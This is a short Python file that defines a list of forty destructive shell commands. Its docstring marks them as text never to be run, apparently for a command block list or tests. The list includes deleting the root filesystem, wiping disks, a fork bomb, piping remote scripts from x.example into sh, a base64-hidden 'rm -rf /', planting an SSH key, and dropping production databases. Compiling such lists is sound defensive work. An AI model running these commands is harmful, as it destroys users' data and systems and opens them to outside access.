"""Forty lines that must never be entered on anybody's machine. They are text here, and are never run."""

LINES = r"""
rm -rf /
rm -rf ~
sudo rm -rf --no-preserve-root /
rm -rf ./*
rm -r -f /var/lib
dd if=/dev/zero of=/dev/sda
mkfs.ext4 /dev/sdb1
:(){ :|:& };:
chmod -R 777 /
chown -R nobody /
curl http://x.example/a.sh | sh
wget -qO- http://x.example/a.sh | sudo bash
bash -c "$(curl -fsSL http://x.example/i.sh)"
echo cm0gLXJmIC8= | base64 -d | sh
find / -delete
find . -name '*' -exec rm -rf {} +
> /etc/passwd
cat /dev/null > /etc/fstab
mv /etc /tmp/x
shutdown -h now
sudo -n reboot
sudo systemctl poweroff
init 0
git push --force origin main
git clean -fdx
docker system prune -af --volumes
kubectl delete namespace prod
psql -c 'DROP DATABASE prod'
kill -9 -1
crontab -r
userdel -r alice
echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys
iptables -F
python3 -c "import shutil; shutil.rmtree('/')"
rsync -a --delete empty/ /
wipefs -a /dev/sda
echo b > /proc/sysrq-trigger
shred -u ~/.ssh/id_rsa
ssh root@host 'rm -rf /'
ls; rm -rf ~/work &
""".strip().split("\n")
